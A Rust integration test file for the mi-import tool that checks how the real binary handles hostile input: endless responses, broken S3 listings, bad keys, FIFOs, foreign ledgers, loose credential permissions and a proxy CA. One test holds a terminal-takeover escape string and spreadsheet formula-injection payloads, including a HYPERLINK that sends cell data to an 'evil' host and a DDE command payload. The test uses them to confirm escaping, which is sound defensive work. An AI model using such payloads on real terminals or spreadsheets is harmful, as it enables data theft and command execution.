//! Hostile and broken input, each on the real binary: answers that never end, listings that
//! never advance or break off, keys that do not decode, manifests from pipes and FIFOs, text
//! built to take over a terminal or a spreadsheet, a company CA and proxy, files that are not
//! ledgers, credentials others may change.

use crate::common::hostile_s3::{HostileS3, Script};
use crate::common::*;
use mi_import::emulator::EmulatorConfig;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// `run` listing the scripted server's bucket.
fn hostile_listing(ws: &Workspace, emu: &mi_import::emulator::Emulator, s3: &HostileS3) -> Bin {
    Bin::run(ws, emu)
        .set("--bucket", BUCKET)
        .set("--s3-endpoint", &s3.endpoint())
}

/// Runs `bin` to the end: its exit code, its stderr, and its peak resident memory in MiB, read
/// from `/proc/<pid>/status` (`VmHWM`) while it runs. (The peak `wait4` reports would include
/// the test process itself: a child forked from a large process counts the parent's pages
/// until it execs.)
async fn run_measured(bin: Bin) -> (Option<i32>, String, u64) {
    tokio::task::spawn_blocking(move || {
        let mut child = bin
            .command()
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut pipe = child.stderr.take().unwrap();
        let reader = std::thread::spawn(move || {
            let mut stderr = String::new();
            pipe.read_to_string(&mut stderr).unwrap();
            stderr
        });
        let status_file = format!("/proc/{}/status", child.id());
        let mut peak_kib = 0u64;
        let status = loop {
            if let Some(hwm) = std::fs::read_to_string(&status_file).ok().and_then(|s| {
                s.lines()
                    .find_map(|l| l.strip_prefix("VmHWM:"))
                    .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            }) {
                peak_kib = peak_kib.max(hwm);
            }
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            std::thread::sleep(std::time::Duration::from_millis(5));
        };
        (status.code(), reader.join().unwrap(), peak_kib / 1024)
    })
    .await
    .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endless_answer_is_cut_off_with_memory_flat() {
    let ws = Workspace::new();
    let emu = emulator(EmulatorConfig {
        endless_register: true,
        ..healthy()
    })
    .await;
    let keys = keys(2, "endless");
    // `-v`: each unknown outcome is logged with its reason.
    let run = Bin::run(&ws, &emu)
        .manifest(&ws.manifest("m.csv", &keys))
        .set("--timeout", "60s")
        .args(&["-v"]);
    let (code, stderr, peak) = run_measured(run).await;
    eprintln!("peak RSS under endless answers: {peak} MiB");
    assert!(peak < 128, "peak RSS {peak} MiB\n{stderr}");
    // Each answer was cut off at 16 MiB, not read on until --timeout ended it: the reason
    // its outcome is unknown is the length, not the time.
    for key in &keys {
        let unknown = format!("{BUCKET}/{key}: outcome unknown (");
        assert!(
            stderr
                .lines()
                .any(|l| l.contains(&unknown) && l.contains("the answer is longer than 16 MiB")),
            "{key}: {stderr}"
        );
    }
    // The answers were unreadable, so each key's outcome is unknown: looked up in the list
    // (which a look before sending showed empty, so the one asset of each name is the key's
    // own), never sent again.
    assert_eq!(code, Some(0), "{stderr}");
    assert_eq!(emu.duplicates(), vec![], "{stderr}");
    assert!(
        stderr.contains("2 keys whose answer was lost were found registered"),
        "{stderr}"
    );
    let own: std::collections::HashMap<String, i64> = emu
        .assets()
        .into_iter()
        .map(|a| (a.key, a.asset_id))
        .collect();
    for key in &keys {
        assert_eq!(emu.registrations(BUCKET, key), 1);
    }
    for (key, _, asset, _) in ws.rows() {
        assert_eq!(asset, own.get(&key).copied(), "{key}");
    }
}

async fn listing_never_ends(script: Script) {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let s3 = HostileS3::start(script).await;
    let out = hostile_listing(&ws, &emu, &s3).output().await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains("does not advance"), "{stderr}");
    assert!(
        stderr.contains("media-archive") && stderr.contains("a/"),
        "{stderr}"
    );
    assert!(stderr.contains("hint:"), "{stderr}");
    // Ended as soon as the listing was seen not to advance, by the pages asked for rather
    // than by the clock: a few, not a listing paged or retried on.
    assert!(
        s3.lists.load(std::sync::atomic::Ordering::SeqCst) < 10,
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_marker_that_does_not_advance_ends_the_listing() {
    listing_never_ends(Script::SameMarker).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_that_ignores_the_marker_ends_the_listing() {
    listing_never_ends(Script::IgnoresMarker).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_cut_off_mid_xml_is_read_again_not_taken_as_the_last() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let s3 = HostileS3::start(Script::CutOffOnce).await;
    let out = hostile_listing(&ws, &emu, &s3).output().await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(s3.lists.load(std::sync::atomic::Ordering::SeqCst) >= 2);
    assert_registered_once(&ws, &emu, &["a/one.mp4".into(), "a/two.mp4".into()]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_listed_key_that_cannot_be_taken_is_skipped_and_the_rest_imported() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let s3 = HostileS3::start(Script::Undecodable).await;
    let out = hostile_listing(&ws, &emu, &s3).output().await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    // A BEL or a TAB bends no key: taken exactly. Bytes that do not decode, and a NUL, do.
    let taken = [
        "good/one.mp4",
        "good/bell\u{7}.mp4",
        "good/tab\there.mp4",
        "good/two.mp4",
    ];
    assert_registered_once(&ws, &emu, &taken.map(String::from));
    let rows = ws.rows();
    let skipped: Vec<&String> = rows
        .iter()
        .filter(|r| r.1 == "skipped")
        .map(|r| &r.0)
        .collect();
    assert_eq!(skipped.len(), 2, "{rows:?}");
    let ledger = ws.ledger();
    let reasons: Vec<String> = ledger
        .conn()
        .prepare("SELECT message FROM keys WHERE state = 7 ORDER BY key")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert!(reasons[0].contains("not valid UTF-8"), "{reasons:?}");
    assert!(reasons[1].contains("NUL"), "{reasons:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_listing_goes_through_the_proxy_the_environment_names() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let proxy = HostileS3::start(Script::Healthy).await;
    // Nothing listens at the endpoint itself: only the proxy can answer.
    let out = Bin::run(&ws, &emu)
        .set("--bucket", BUCKET)
        .set("--s3-endpoint", "http://s3.example.invalid:9")
        .args(&["--allow-insecure-http"])
        .env("HTTP_PROXY", &proxy.endpoint())
        .env("NO_PROXY", "127.0.0.1")
        .output()
        .await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        proxy.proxied.load(std::sync::atomic::Ordering::SeqCst) >= 2,
        "{stderr}"
    );
    assert_registered_once(
        &ws,
        &emu,
        &["a/one.mp4".into(), "a/two.mp4".into(), "b/three.mp4".into()],
    );
}

fn manifest_text(keys: &[&str]) -> String {
    let mut text = String::from("bucket,key\n");
    for k in keys {
        text.push_str(&format!("{BUCKET},{k}\n"));
    }
    text
}

fn mkfifo(path: &std::path::Path) {
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: a valid C string naming a path in the test's own folder.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_manifest_may_be_a_fifo_or_a_process_substitution() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let fifo = ws.path("keys.fifo");
    mkfifo(&fifo);
    let (path, written) = (fifo.clone(), manifest_text(&["fifo/a.mp4", "fifo/b.mp4"]));
    let writer = std::thread::spawn(move || std::fs::write(path, written).unwrap());
    let out = Bin::run(&ws, &emu).manifest(&fifo).output().await;
    writer.join().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_registered_once(&ws, &emu, &["fifo/a.mp4".into(), "fifo/b.mp4".into()]);

    // bash's <(...): a pipe under /dev/fd, readable once.
    // The command the builder makes, exec'd by bash with the manifest's place filled in.
    let run = Bin::run(&ws, &emu)
        .manifest(std::path::Path::new("MANIFEST"))
        .command();
    let quoted: Vec<String> = std::iter::once(run.get_program())
        .chain(run.get_args())
        .map(|a| match a.to_str().unwrap() {
            "MANIFEST" => "<(printf 'bucket,key\\nmedia-archive,pipe/c.mp4\\n')".into(),
            other => format!("'{other}'"),
        })
        .collect();
    let mut bash = std::process::Command::new("bash");
    bash.args(["-c", &format!("exec {}", quoted.join(" "))])
        .current_dir(ws.dir.path())
        .env_clear();
    for (name, value) in run.get_envs() {
        if let Some(value) = value {
            bash.env(name, value);
        }
    }
    let out = bash.output().unwrap();
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("read once"), "{stderr}");
    assert_eq!(emu.registrations(BUCKET, "pipe/c.mp4"), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_ends_a_run_waiting_on_a_fifo_and_the_next_run_is_not_refused() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let fifo = ws.path("nobody-writes.fifo");
    mkfifo(&fifo);
    let run = Bin::run(&ws, &emu).manifest(&fifo);
    let mut child = run.start();
    tokio::time::sleep(Duration::from_millis(700)).await;
    // SAFETY: the child's own pid.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    // A bound that is the behaviour itself: a run blocked opening a FIFO still ends on
    // SIGTERM, within about a tenth of a second here; 10 s, a hundred times that, only turns
    // a run that ignores the signal into a failure rather than a test that never ends.
    let asked = Instant::now();
    while child.try_wait().is_none() {
        assert!(
            asked.elapsed() < Duration::from_secs(10),
            "still running 10 s after SIGTERM"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // Its stderr was read while it ran.
    let out = child.wait();
    let (status, stderr) = (out.status, text(&out.stderr));
    assert_eq!(status.code(), Some(143), "{stderr}");
    assert!(
        !ws.path("ledger.db.lock").exists(),
        "the lock goes with its command"
    );
    // The next run (with a writer this time) is not refused.
    let (path, written) = (fifo.clone(), manifest_text(&["late/a.mp4"]));
    let writer = std::thread::spawn(move || std::fs::write(path, written).unwrap());
    let out = run.output().await;
    writer.join().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endless_line_and_a_nul_in_a_key_are_errors_naming_the_line() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let run = Bin::run(&ws, &emu).manifest(std::path::Path::new("/dev/zero"));
    let (code, stderr, peak) = run_measured(run).await;
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.contains("line 1 is longer than 64 KiB"), "{stderr}");
    assert!(peak < 128, "peak RSS {peak} MiB");

    let keys = ws.path("keys.txt");
    std::fs::write(&keys, b"plain/a.mp4\nbent/a.mp4\0tail\n").unwrap();
    let out = Bin::run(&ws, &emu)
        .manifest(&keys)
        .args(&["--manifest-format", "keys", "--bucket", BUCKET])
        .output()
        .await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("line 2: the line holds a NUL"), "{stderr}");
    assert_eq!(emu.counters().register_calls, 0, "nothing was sent");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_malformed_row_is_named_in_one_run() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let manifest = ws.path("m.csv");
    let mut text_ = String::from("bucket,key,size\n");
    for i in 0..10 {
        match i {
            2 | 4 | 5 | 7 | 9 => text_.push_str(&format!("{BUCKET},bad/{i}.mp4,size-{i}\n")),
            _ => text_.push_str(&format!("{BUCKET},good/{i}.mp4,{}\n", 100 + i)),
        }
    }
    std::fs::write(&manifest, text_).unwrap();
    let out = Bin::run(&ws, &emu).manifest(&manifest).output().await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("5 rows are malformed"), "{stderr}");
    for line in [4, 6, 7, 9, 11] {
        assert!(
            stderr.contains(&format!("line {line}: size `size-")),
            "{line}: {stderr}"
        );
    }
    assert_eq!(emu.counters().register_calls, 0, "nothing was sent");
    let out = Bin::run(&ws, &emu)
        .manifest(&manifest)
        .args(&["--skip-bad-rows"])
        .output()
        .await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(emu.counters().register_calls, 5, "{stderr}");
    assert!(
        stderr.contains("5 rows were malformed and left out"),
        "{stderr}"
    );
}

/// Text an answer might carry to take over a terminal: a new title, a cleared screen, a
/// carriage return, a forged line, a bidi override.
const TAKEOVER: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\r\nAll keys registered OK \u{202e}kcah";

fn has_raw_controls(text: &str) -> bool {
    text.chars()
        .any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c))
        || text.contains("\nAll keys registered OK")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn text_from_outside_reaches_a_terminal_escaped_and_a_spreadsheet_inert() {
    let ws = Workspace::new();
    let emu = emulator(EmulatorConfig {
        reject_containing: Some("refuse".into()),
        reject_message: Some(TAKEOVER.into()),
        reject_status: 403,
        ..healthy()
    })
    .await;
    let keys: Vec<String> = [
        "=HYPERLINK(\"http://evil\"&A1,\"click\").mp4",
        "+cmd|' /C calc'!A0.mp4",
        "@SUM(1+1).mp4",
        "-2+3.mp4",
        "evil\u{202e}4pm.mp4",
        "refuse-me.mp4",
    ]
    .map(String::from)
    .to_vec();
    let out = Bin::run(&ws, &emu)
        .manifest(&ws.manifest("m.csv", &keys))
        .output()
        .await;
    let stderr = text(&out.stderr);
    // Refused with 403 in MI's envelope: the run stops, MI's words in its error line.
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(
        !has_raw_controls(&stderr),
        "raw control text on stderr:\n{stderr:?}"
    );
    assert!(stderr.contains("\\x1b]0;owned"), "{stderr}");

    // The CSV report: a spreadsheet runs none of its cells; JSON Lines stays exact.
    let csv_out = Bin::on_ledger(&ws, "report").output().await;
    let mut reader = csv::Reader::from_reader(&csv_out.stdout[..]);
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let jsonl = Bin::on_ledger(&ws, "report")
        .args(&["--format", "jsonl"])
        .output()
        .await;
    let rows: Vec<serde_json::Value> = text(&jsonl.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        rows.iter().any(|r| r["key"] == keys[0]),
        "JSON Lines keeps keys exact"
    );
    assert!(
        rows.iter().any(|r| r["message"] == TAKEOVER),
        "and MI's words exact"
    );

    // On a terminal, the report is escaped.
    let shown = on_a_pty(&Bin::on_ledger(&ws, "report"));
    assert!(!has_raw_controls(&shown.replace("\r\n", "\n")), "{shown:?}");
    assert!(shown.contains("\\u{202e}"), "{shown:?}");
}

/// What the binary writes to stdout when stdout is a terminal.
fn on_a_pty(bin: &Bin) -> String {
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty fills in two descriptors; no name, termios or size asked for.
    let opened = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(opened, 0);
    use std::os::fd::FromRawFd;
    // SAFETY: both descriptors were just opened for this process and are owned here.
    let (master, slave) = unsafe {
        (
            std::fs::File::from_raw_fd(master),
            std::process::Stdio::from_raw_fd(slave),
        )
    };
    let mut child = bin.command().stdout(slave).spawn().unwrap();
    let status = child.wait().unwrap();
    assert!(status.success());
    let mut out = Vec::new();
    let mut master = master;
    // Everything is written once the child has ended; read what the pty holds.
    let fd = std::os::fd::AsRawFd::as_raw_fd(&master);
    // SAFETY: a descriptor this function owns.
    unsafe { libc::fcntl(fd, libc::F_SETFL, libc::O_NONBLOCK) };
    let mut buf = [0u8; 65536];
    loop {
        match master.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
            Err(_) => break,
        }
    }
    text(&out)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_foreign_sqlite_file_is_left_byte_for_byte() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let foreign = ws.path("photos.db");
    {
        let c = rusqlite::Connection::open(&foreign).unwrap();
        c.execute_batch("PRAGMA user_version = 3; CREATE TABLE photos (id INTEGER, name TEXT); INSERT INTO photos VALUES (1, 'a');")
            .unwrap();
    }
    let before = std::fs::read(&foreign).unwrap();
    let manifest = ws.manifest("m.csv", &keys(1, "x"));
    let foreign_db = foreign.to_str().unwrap();
    for bin in [
        Bin::run(&ws, &emu)
            .manifest(&manifest)
            .set("--db", foreign_db),
        Bin::new(&ws, &["status", "--db", foreign_db]),
        Bin::new(&ws, &["report", "--db", foreign_db]),
    ] {
        let out = bin.output().await;
        let args = bin.arg_list();
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains("not an mi-import ledger"), "{stderr}");
    }
    assert_eq!(std::fs::read(&foreign).unwrap(), before, "changed");
    for beside in ["photos.db.lock", "photos.db-wal", "photos.db-shm"] {
        assert!(!ws.path(beside).exists(), "{beside} was made");
    }
    assert_eq!(emu.counters().requests, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_newer_ledger_a_read_only_ledger_and_the_lock_left_behind() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let manifest = ws.manifest("m.csv", &keys(2, "ro"));
    let out = Bin::run(&ws, &emu).manifest(&manifest).output().await;
    assert_eq!(out.status.code(), Some(0));
    assert!(
        !ws.path("ledger.db.lock").exists(),
        "the lock goes with its command"
    );
    let db = ws.db();
    // status and report on a read-only file.
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o400)).unwrap();
    for command in ["status", "report"] {
        let out = Bin::on_ledger(&ws, command).output().await;
        assert_eq!(
            out.status.code(),
            Some(0),
            "{command}: {}",
            text(&out.stderr)
        );
    }
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o600)).unwrap();
    // A ledger of a newer mi-import: exit 2, both versions named.
    rusqlite::Connection::open(&db)
        .unwrap()
        .pragma_update(None, "user_version", 99)
        .unwrap();
    let out = Bin::on_ledger(&ws, "status").output().await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    let ours = format!("version {}", mi_import::ledger::open::schema_version());
    assert!(
        stderr.contains("schema version 99") && stderr.contains(&ours),
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_configure_file_others_may_change_is_refused_and_one_they_may_read_is_warned_of() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let dir = ws.path(".ncloud");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("configure");
    std::fs::write(
        &file,
        format!("[DEFAULT]\nncloud_access_key_id = {ACCESS} # ours\nncloud_secret_access_key = {SECRET}\n"),
    )
    .unwrap();
    let manifest = ws.manifest("m.csv", &keys(1, "creds"));
    let run = Bin::run(&ws, &emu)
        .manifest(&manifest)
        .env_removed("NCLOUD_ACCESS_KEY")
        .env_removed("NCLOUD_SECRET_KEY");
    let from_file = |mode: u32| {
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).unwrap();
        let out = run.output_now();
        (out.status.code(), text(&out.stderr))
    };
    let (code, stderr) = from_file(0o666);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(
        stderr.contains("chmod 600") && stderr.contains("configure"),
        "{stderr}"
    );
    assert_eq!(emu.counters().requests, 0);
    let (code, stderr) = from_file(0o644);
    assert_eq!(code, Some(0), "the comment is no part of the key: {stderr}");
    assert!(
        stderr.contains("may be read by other users") && stderr.contains("chmod 600"),
        "{stderr}"
    );
    let (code, stderr) = from_file(0o600);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(!stderr.contains("chmod"), "{stderr}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_to_another_machine_is_refused_unless_allowed() {
    let ws = Workspace::new();
    let manifest = ws.manifest("m.csv", &keys(1, "clear"));
    let db = ws.db();
    let base = |endpoint: &str| {
        Bin::new(
            &ws,
            &[
                "run",
                "--db",
                db.to_str().unwrap(),
                "--endpoint",
                endpoint,
                "--workspace",
                "w",
                "--project",
                "1",
                "--manifest",
                manifest.to_str().unwrap(),
                "--timeout",
                "1s",
                "--max-attempts",
                "1",
            ],
        )
    };
    let out = base("http://192.0.2.1:8080").output().await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("--allow-insecure-http"), "{stderr}");
    assert!(!db.exists(), "nothing was created");
    let out = base("http://192.0.2.1:8080")
        .args(&["--allow-insecure-http"])
        .output()
        .await;
    let stderr = text(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(3),
        "allowed, it tries (and finds nobody): {stderr}"
    );
    assert!(!db.exists(), "a refused preflight leaves no ledger behind");
    assert!(!ws.path("ledger.db.lock").exists());
}

/// A TLS front for the emulator, its certificate signed by a CA of the test's own: what a
/// company's TLS-inspecting proxy looks like to the client. Returns its port and the CA in
/// PEM.
async fn tls_front(backend: std::net::SocketAddr) -> (u16, String) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, KeyPair};
    let ca_key = KeyPair::generate().unwrap();
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "mi-import test CA");
    let ca = ca_params.self_signed(&ca_key).unwrap();
    let leaf_key = KeyPair::generate().unwrap();
    let leaf = CertificateParams::new(vec!["localhost".to_string()])
        .unwrap()
        .signed_by(&leaf_key, &ca, &ca_key)
        .unwrap();
    let config = rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(
        vec![leaf.der().clone()],
        rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
    )
    .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(std::sync::Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                continue;
            };
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(stream).await else {
                    return;
                };
                let Ok(mut plain) = tokio::net::TcpStream::connect(backend).await else {
                    return;
                };
                let _ = tokio::io::copy_bidirectional(&mut tls, &mut plain).await;
            });
        }
    });
    (port, ca.pem())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mi_is_reached_through_tls_with_a_ca_given_only_by_ssl_cert_file() {
    let ws = Workspace::new();
    let emu = emulator(healthy()).await;
    let (port, ca) = tls_front(emu.addr).await;
    let ca_file = ws.path("company-ca.pem");
    std::fs::write(&ca_file, ca).unwrap();
    let keys = keys(3, "tls");
    let through_tls = Bin::run(&ws, &emu)
        .manifest(&ws.manifest("m.csv", &keys))
        .set("--endpoint", &format!("https://localhost:{port}"));
    let run = |with_ca: bool| {
        let mut bin = through_tls.clone();
        if with_ca {
            bin = bin.env("SSL_CERT_FILE", ca_file.to_str().unwrap());
        }
        let out = bin.output_now();
        (out.status.code(), text(&out.stderr))
    };
    let (code, stderr) = run(false);
    assert_eq!(code, Some(3), "the test CA is nobody's root: {stderr}");
    let (code, stderr) = run(true);
    assert_eq!(code, Some(0), "{stderr}");
    assert_registered_once(&ws, &emu, &keys);
}
